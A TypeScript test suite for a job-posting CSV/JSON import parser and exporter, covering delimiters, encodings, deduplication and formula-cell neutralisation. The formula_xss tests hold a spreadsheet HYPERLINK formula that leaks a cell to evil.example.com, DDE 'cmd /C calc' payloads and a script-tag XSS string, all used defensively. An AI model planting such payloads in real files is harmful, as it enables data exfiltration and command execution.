import { readdirSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { Problem } from '../problem';
import { jobPostingId } from '../posting-identity';
import { detectDelimiter, exportRecords, IMPORT_COLUMNS, matchHeader, neutralizeCell, parseImport, type ImportParse } from './import-format';

const dir = fileURLToPath(new URL('../../../../tests/fixtures/imports/', import.meta.url));
const bytesOf = (name: string) => new Uint8Array(readFileSync(dir + name));
const formatOf = (name: string) => (name.endsWith('.json') ? 'json' : 'csv') as 'csv' | 'json';
const parseFixture = (name: string) => parseImport({ bytes: bytesOf(name) }, formatOf(name));

type Expected = {
	accepted: number;
	error?: string;
	rejected?: { row: number; reason: string }[];
	duplicate_groups?: { kept: number; duplicates: number[] }[];
	not_duplicates?: [number, number, string][];
	accepted_rows?: number[];
	checks?: { row?: number; field?: string; equals?: string; note?: string }[];
};
const expected = JSON.parse(readFileSync(dir + 'expected.json', 'utf8')) as { files: Record<string, Expected> };
const fixtureFiles = Object.keys(expected.files).filter((name) => !name.includes('generated'));

/** "invalid_link: scheme ftp" → code invalid_link, words ["scheme", "ftp"]. */
function reasonParts(reason: string) {
	const code = /^[a-z_]+/.exec(reason)![0];
	const words = reason.slice(code.length).match(/[\p{L}\p{N}]+/gu) ?? [];
	return { code, words };
}

function assertExpected(name: string, result: ImportParse, want: Expected) {
	// expected.json's `accepted` = records that would be created (duplicates in the file folded
	// into their first occurrence); CONTRACT.md's `valid` counts duplicates too.
	expect(result.records.length - result.duplicatesInFile.length, `${name} accepted`).toBe(want.accepted);
	expect(result.valid).toBe(result.records.length);
	expect(result.rows).toBe(result.valid + (want.rejected?.length ?? 0));
	expect(result.invalid.map((r) => r.row), `${name} rejected rows`).toEqual((want.rejected ?? []).map((r) => r.row));
	for (const rejected of want.rejected ?? []) {
		const got = result.invalid.find((r) => r.row === rejected.row)!;
		const { code, words } = reasonParts(rejected.reason);
		const error = got.errors.find((e) => e.code === code);
		expect(error, `${name} row ${rejected.row}: ${rejected.reason} in ${JSON.stringify(got.errors)}`).toBeDefined();
		for (const word of words) expect(error!.message.toLowerCase()).toContain(word.toLowerCase());
	}
	if (want.accepted_rows) expect(result.records.map((r) => r.row)).toEqual(want.accepted_rows);
	if (name === 'duplicates.csv') expect([result.rows, result.valid]).toEqual([9, 9]);
	const groups = want.duplicate_groups ?? [];
	const dupes = groups.flatMap((g) => g.duplicates.map((row) => ({ row, matches: [g.kept] })));
	expect(result.duplicatesInFile, `${name} duplicates`).toEqual(dupes);
	for (const [a, b] of want.not_duplicates ?? []) {
		expect(result.duplicatesInFile.some((d) => d.row === b && d.matches.includes(a))).toBe(false);
	}
	for (const check of want.checks ?? []) {
		if (check.row === undefined || !check.field) continue;
		const record = result.records.find((r) => r.row === check.row)!;
		expect(record[check.field as keyof typeof record], `${name} row ${check.row} ${check.field}`).toBe(check.equals);
	}
	for (const record of result.records) {
		for (const column of IMPORT_COLUMNS) expect(record[column]).not.toContain('\ufffd');
	}
}

describe('parseImport: fixtures of tests/fixtures/imports/expected.json', () => {
	it('covers every fixture file in the folder', () => {
		const onDisk = readdirSync(dir).filter((f) => /\.(csv|json)$/.test(f) && f !== 'expected.json' && !f.startsWith('large_'));
		expect([...fixtureFiles].sort()).toEqual(onDisk.sort());
		expect([...fixtureFiles].sort()).toEqual(
			[
				'bom_crlf.csv', 'clean.csv', 'clean.json', 'duplicates.csv', 'formula_xss.csv', 'latin1_iso8859-1.csv',
				'malformed.json', 'missing_extra_columns.csv', 'object_not_array.json', 'quoted_multiline.csv', 'semicolon_excel_ptbr.csv'
			]
		);
	});

	for (const name of fixtureFiles) {
		const want = expected.files[name];
		if (want.error) {
			it(`${name}: rejects the whole file with ${want.error}`, () => {
				let thrown: unknown;
				try {
					parseFixture(name);
				} catch (error) {
					thrown = error;
				}
				expect(thrown).toBeInstanceOf(Problem);
				const problem = thrown as Problem;
				expect(problem.message).toContain(want.error!);
				expect(problem.message).toContain('Nothing was imported');
				expect([400, 422]).toContain(problem.status);
				expect(problem.errors?.length).toBeGreaterThan(0);
				if (want.error === 'invalid_json') expect(problem.message).toMatch(/line \d+, column \d+/);
				if (want.error === 'expected_array') expect(problem.message).toContain('"vagas"');
				expect(want.accepted).toBe(0);
			});
		} else {
			it(`${name}: ${want.accepted} accepted, ${want.rejected?.length ?? 0} rejected, ${want.duplicate_groups?.length ?? 0} duplicate group(s)`, () => {
				assertExpected(name, parseFixture(name), want);
			});
		}
	}

	it('bom_crlf.csv: the BOM is stripped from the first header and no \\r is left in the last column', () => {
		const result = parseFixture('bom_crlf.csv');
		expect(result.warnings.filter((w) => w.message.includes('column'))).toEqual([]);
		expect(result.records[0].cargo).toBe('Engenheiro(a) de Software Pleno');
		for (const record of result.records) expect(record.observacoes).not.toMatch(/\r/);
	});

	it('missing_extra_columns.csv: missing fonte/observacoes read as empty, unknown column warned', () => {
		const result = parseFixture('missing_extra_columns.csv');
		expect(result.warnings.map((w) => w.message).join('\n')).toContain('salario_pretendido');
		expect(result.warnings.map((w) => w.message).join('\n')).toMatch(/missing column\(s\) fonte, observacoes/);
		expect(result.records[0]).toMatchObject({ fonte: '', observacoes: '', cargo: 'Analista de Suporte' });
	});

	it('clean.csv and clean.json give the same records', () => {
		expect(parseFixture('clean.json').records).toEqual(parseFixture('clean.csv').records);
	});

	it('statuses: nova → new, salva → saved, tracker statuses kept as new with a warning', () => {
		const result = parseFixture('clean.csv');
		expect(result.records[0].status).toBe('new');
		expect(result.records.find((r) => r.row === 5)!.status).toBe('saved');
		expect(result.warnings.map((w) => w.message).join('\n')).toMatch(/"aplicada" is a job-tracker status/);
	});

	it('formula_xss.csv keeps payloads as literal text', () => {
		const result = parseFixture('formula_xss.csv');
		expect(result.records[0].cargo).toBe('=HYPERLINK("https://evil.example.com/steal?d="&A1,"Clique aqui")');
		expect(result.records.find((r) => r.row === 5)!.cargo).toBe('<script>alert("xss")</script>Dev Front');
		expect(result.records.find((r) => r.row === 7)!.link).toBe('https://jobs.example.org/x/7?q=<script>');
	});
});

describe('parseImport: CSV details', () => {
	const header = IMPORT_COLUMNS.join(',');

	it('matches headers regardless of case, accents, spacing and order', () => {
		expect(matchHeader('\ufeffCARGO')).toBe('cargo');
		expect(matchHeader(' Descrição ')).toBe('descricao');
		expect(matchHeader('OBSERVAÇÕES')).toBe('observacoes');
		expect(matchHeader('job_title')).toBe('cargo');
		const text = 'Observações;STATUS;Link;Empresa;Descrição;Cargo;Local;Fonte\r\nligar;Nova;https://a.example/1;Acme;texto;Dev;Remoto;RSS\r\n';
		const result = parseImport({ text }, 'csv');
		expect(result.warnings.filter((w) => w.message.includes('column'))).toEqual([]);
		expect(result.records).toEqual([
			{ row: 1, cargo: 'Dev', empresa: 'Acme', link: 'https://a.example/1', local: 'Remoto', descricao: 'texto', fonte: 'RSS', status: 'new', observacoes: 'ligar' }
		]);
	});

	it('an unknown status is a row error naming the column', () => {
		const result = parseImport({ text: `${header}\nDev,Acme,,,,,talvez,\n` }, 'csv');
		expect(result.invalid).toEqual([{ row: 1, errors: [expect.objectContaining({ column: 'status', code: 'invalid_status' })] }]);
	});

	it('a row without cargo and link is invalid with the reason', () => {
		const result = parseImport({ text: `${header}\n,Acme,,Remoto,,,nova,\n` }, 'csv');
		expect(result.invalid[0].errors).toEqual([{ column: 'cargo', code: 'missing_required_field', message: 'missing_required_field: cargo' }]);
	});

	it('text that is not a file throws invalid_file', () => {
		expect(() => parseImport({ bytes: new Uint8Array([0, 1, 2, 0, 0, 0, 3, 4, 0, 0]) }, 'csv')).toThrow(Problem);
	});
});

describe('parseImport: delimiters', () => {
	// Excel in Brazil saves ";" and quotes a header that holds a comma.
	const semicolon = [
		'cargo;empresa;local;"notas, detalhes"',
		'Analista de Dados;Acme;São Paulo, SP;"ligar segunda, 10h"',
		'Dev Backend;Beta;Remoto;sem notas',
		'Designer;Gama;Recife;"portfólio; enviar"'
	].join('\r\n');

	it('a quoted comma in a semicolon header does not make the comma the delimiter', () => {
		const result = parseImport({ text: semicolon }, 'csv');
		expect(result).toMatchObject({ rows: 3, valid: 3, invalid: [], delimiter: 'semicolon', columns: 4 });
		expect(result.records.map((r) => [r.cargo, r.empresa, r.local])).toEqual([
			['Analista de Dados', 'Acme', 'São Paulo, SP'],
			['Dev Backend', 'Beta', 'Remoto'],
			['Designer', 'Gama', 'Recife']
		]);
		expect(result.warnings).toContainEqual(expect.objectContaining({ code: 'unknown_column', params: { name: 'notas, detalhes' } }));
	});

	it('the header and the rows decide together: a tie in the header goes to the delimiter the rows agree with', () => {
		// As many commas as semicolons, and three columns either way: only ";" gives the rows three too.
		const text = 'cargo;empresa;notas (ligar, enviar, esperar)\nDev;Acme;ligar\nQA;Beta;\n';
		expect(detectDelimiter(text)).toBe('semicolon');
		const result = parseImport({ text }, 'csv');
		expect([result.rows, result.invalid.length]).toEqual([2, 0]);
		expect(result.records.map((r) => r.cargo)).toEqual(['Dev', 'QA']);
	});

	it('reads pipe-separated and tab-separated files', () => {
		for (const [name, char] of [['pipe', '|'], ['tab', '\t']] as const) {
			const text = ['cargo', 'empresa', 'local'].join(char) + '\n' + ['Dev', 'Acme, Inc', 'Remoto'].join(char) + '\n';
			const result = parseImport({ text }, 'csv');
			expect(result.delimiter, name).toBe(name);
			expect(result.records[0], name).toMatchObject({ cargo: 'Dev', empresa: 'Acme, Inc', local: 'Remoto' });
		}
	});

	it('says when no delimiter splits the header', () => {
		const result = parseImport({ text: 'cargo\nDev\n' }, 'csv');
		expect(result.warnings.map((w) => w.code)).toContain('delimiter_not_found');
		expect(result.columns).toBe(1);
	});

	it('a delimiter chosen by hand is used instead of the one detected', () => {
		const forced = parseImport({ text: semicolon }, 'csv', { delimiter: 'comma' });
		expect(forced).toMatchObject({ delimiter: 'comma', columns: 2, valid: 0 });
		expect(forced.warnings.map((w) => w.code)).not.toContain('delimiter');
		const back = parseImport({ text: semicolon }, 'csv', { delimiter: 'auto' });
		expect(back).toMatchObject({ delimiter: 'semicolon', columns: 4, valid: 3 });
	});
});

describe('parseImport: quotes and blank lines', () => {
	const header = IMPORT_COLUMNS.join(',');

	it('a quote error after blank lines is reported on its own row', () => {
		const text = `${header}\n\n\nDev,Acme,,,,,nova,"ligar amanhã\n`;
		const result = parseImport({ text }, 'csv');
		expect(result.invalid).toEqual([{ row: 1, errors: [expect.objectContaining({ code: 'malformed_row', message: expect.stringMatching(/never closed/) })] }]);
		expect(result.valid).toBe(0);
	});

	it('a quote never closed in the header refuses the file: the rest of it was read into the header', () => {
		let thrown: unknown;
		try {
			parseImport({ text: 'cargo,"empresa,local\nDev,Acme,Remoto\n' }, 'csv');
		} catch (error) {
			thrown = error;
		}
		expect(thrown).toBeInstanceOf(Problem);
		expect(thrown).toMatchObject({ code: 'invalid_file', params: { reason: 'malformed_header' } });
	});

	it('a stray quote in the header is a note, and the rows are still read', () => {
		const result = parseImport({ text: 'cargo,"empresa"x",local\nDev,Acme,Remoto\n' }, 'csv');
		expect(result.warnings.map((w) => w.code)).toContain('malformed_header');
		expect(result).toMatchObject({ rows: 1, columns: 3 });
		// A delimiter chosen by hand that is not the file's can put quotes out of place too: still a preview.
		const forced = parseImport({ text: '"cargo";"empresa"\n"Dev";"Acme"\n' }, 'csv', { delimiter: 'comma' });
		expect(forced.warnings.map((w) => w.code)).toContain('malformed_header');
		expect(forced.columns).toBe(1);
	});
});

describe('parseImport: encodings', () => {
	it('says which encoding a file was read as', () => {
		expect(parseFixture('latin1_iso8859-1.csv').encoding).toBe('windows-1252');
		expect(parseFixture('semicolon_excel_ptbr.csv').encoding).toBe('utf-8');
		expect(parseFixture('clean.json').encoding).toBe('utf-8');
		expect(parseImport({ text: 'cargo,empresa\nDev,Acme' }, 'csv').encoding).toBeNull();
	});

	it('an encoding chosen by hand is used instead of the one detected', () => {
		const utf8 = new TextEncoder().encode('cargo,empresa,local\nAnalista de Produção,Embaúba,São Paulo\n');
		expect(parseImport({ bytes: utf8 }, 'csv').records[0].cargo).toBe('Analista de Produção');
		const asLatin1 = parseImport({ bytes: utf8 }, 'csv', { encoding: 'windows-1252' });
		expect(asLatin1).toMatchObject({ encoding: 'windows-1252' });
		expect(asLatin1.records[0].cargo).toBe('Analista de ProduÃ§Ã£o');
		const latin1 = bytesOf('latin1_iso8859-1.csv');
		const asUtf8 = parseImport({ bytes: latin1 }, 'csv', { encoding: 'utf-8' });
		expect(asUtf8.encoding).toBe('utf-8');
		expect(asUtf8.records.some((r) => r.cargo.includes('\ufffd'))).toBe(true);
		expect(parseImport({ bytes: latin1 }, 'csv', { encoding: 'windows-1252' }).records).toEqual(parseFixture('latin1_iso8859-1.csv').records);
	});
});

describe('dedupe by job-board id (jobPostingId)', () => {
	it('finds the same LinkedIn, Indeed and Gupy job under different links', () => {
		expect(jobPostingId('https://www.linkedin.com/jobs/view/senior-dev-at-acme-3812345678/?trackingId=x')).toBe('linkedin:3812345678');
		expect(jobPostingId('https://br.linkedin.com/jobs/collections/recommended/?currentJobId=3812345678')).toBe('linkedin:3812345678');
		expect(jobPostingId('https://br.indeed.com/viewjob?jk=0a1b2c3d4e5f6789&from=serp&vjs=3')).toBe('indeed:0a1b2c3d4e5f6789');
		expect(jobPostingId('https://acme.gupy.io/jobs/123456?jobBoardSource=gupy_public_page')).toBe('gupy:acme/123456');
		expect(jobPostingId('https://jobs.example.org/vaga/123456')).toBeNull();
		const text = [
			IMPORT_COLUMNS.join(','),
			'Dev,Acme,https://www.linkedin.com/jobs/view/3812345678/,São Paulo,,,nova,',
			'Dev Sr,Acme SA,https://br.linkedin.com/jobs/view/dev-sr-at-acme-3812345678,Remoto,,,nova,',
			'QA,Beta,https://br.indeed.com/viewjob?jk=0a1b2c3d4e5f6789&from=serp,Recife,,,nova,',
			'QA Pleno,Beta,https://www.indeed.com/rc/clk?jk=0a1b2c3d4e5f6789&fccid=1,Remoto,,,nova,',
			'PO,Gama,https://gama.gupy.io/jobs/123456?jobBoardSource=gupy_public_page,Remoto,,,nova,',
			'Product Owner,Gama,https://gama.gupy.io/jobs/123456,Remoto,,,nova,',
			'Product Owner,Gama,https://gama.gupy.io/jobs/654321,Curitiba,,,nova,'
		].join('\n');
		expect(parseImport({ text }, 'csv').duplicatesInFile).toEqual([
			{ row: 2, matches: [1] },
			{ row: 4, matches: [3] },
			{ row: 6, matches: [5] }
		]);
	});
});

describe('parseImport: JSON details', () => {
	it('says where a value has the wrong type', () => {
		const items = [{ cargo: 'A', empresa: 'B' }, { cargo: 'A2', empresa: 'B' }, { cargo: 'A3', empresa: 'B' }, { cargo: 3, empresa: 'B' }];
		try {
			parseImport({ text: JSON.stringify(items) }, 'json');
			expect.unreachable();
		} catch (error) {
			expect((error as Problem).code).toBe('validation_failed');
			expect((error as Problem).errors).toEqual([{ path: '$[3].cargo', message: 'expected a string, found number' }]);
		}
	});

	it('an element that is not an object is rejected with its index', () => {
		expect(() => parseImport({ text: '[{"cargo":"a","empresa":"b"}, "x"]' }, 'json')).toThrow(/does not match/);
	});
});

describe('exportRecords', () => {
	it('neutralises formula cells in CSV (formula_xss.csv)', () => {
		const csv = exportRecords(parseFixture('formula_xss.csv').records, 'csv');
		expect(csv.split('\r\n')[0]).toBe(IMPORT_COLUMNS.map((c) => `"${c}"`).join(','));
		expect(csv).toContain(`"'=HYPERLINK(""https://evil.example.com/steal?d=""&A1,""Clique aqui"")"`);
		expect(csv).toContain(`"'+cmd|' /C calc'!A0"`);
		expect(csv).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
		expect(csv).toContain(`"'-2+3+cmd|' /C notepad'!A0"`);
		// no exported cell starts with a formula character
		const cells = csv.split(/\r\n/).slice(1).flatMap((line) => line.match(/"((?:[^"]|"")*)"/g) ?? []);
		for (const cell of cells) expect(cell).not.toMatch(/^"[=+\-@\t\r]/);
		expect(neutralizeCell('\tx')).toBe("'\tx");
		expect(neutralizeCell('\r=1')).toBe("'\r=1");
		expect(neutralizeCell('Dev -2')).toBe('Dev -2');
	});

	it('round trip export → parse gives the same records (CSV and JSON)', () => {
		const records = ['clean.csv', 'quoted_multiline.csv', 'formula_xss.csv', 'latin1_iso8859-1.csv', 'semicolon_excel_ptbr.csv']
			.flatMap((name) => parseFixture(name).records)
			.map((record, index) => ({ ...record, row: index + 1 }));
		for (const format of ['csv', 'json'] as const) {
			const back = parseImport({ bytes: new TextEncoder().encode(exportRecords(records, format)) }, format);
			expect(back.invalid).toEqual([]);
			expect(back.records).toEqual(records);
		}
	});
});

describe('parseImport: 10,000 generated rows', () => {
	it('parses them all (time printed, not asserted)', () => {
		// Same shape as gen_large.mjs (which writes files; nothing is written here).
		const q = (v: string) => (/[",\n\r]/.test(v) ? '"' + v.replace(/"/g, '""') + '"' : v);
		const statuses = ['nova', 'aplicada', 'entrevista', 'descartada', 'salva'];
		const lines = [IMPORT_COLUMNS.join(',')];
		for (let i = 1; i <= 10_000; i++) {
			const desc = i % 10 === 0 ? `Stack: Python, SQL, "dbt"; linha ${i}\nsegunda linha` : `Descrição da vaga ${i}, com vírgula`;
			lines.push([`Dev ${i % 12}`, `Empresa Fictícia ${String(i).padStart(6, '0')}`, `https://vagas.example.com/large/${i}`, 'São Paulo, SP', desc, 'LinkedIn', statuses[i % 5], ''].map(q).join(','));
		}
		const bytes = new TextEncoder().encode(lines.join('\n') + '\n');
		const started = performance.now();
		const result = parseImport({ bytes }, 'csv');
		const ms = performance.now() - started;
		console.log(`parseImport: 10,000 rows (${(bytes.length / 1024).toFixed(0)} KB) in ${ms.toFixed(0)} ms`);
		const want = expected.files['large_10k.csv (generated by gen_large.mjs)'];
		expect(result.records.length).toBe(want.accepted);
		expect(result.invalid).toEqual([]);
		expect(result.duplicatesInFile.length).toBe(want.duplicate_groups!.length);
		expect(result.records[9].descricao).toBe('Stack: Python, SQL, "dbt"; linha 10\nsegunda linha');
	});
});
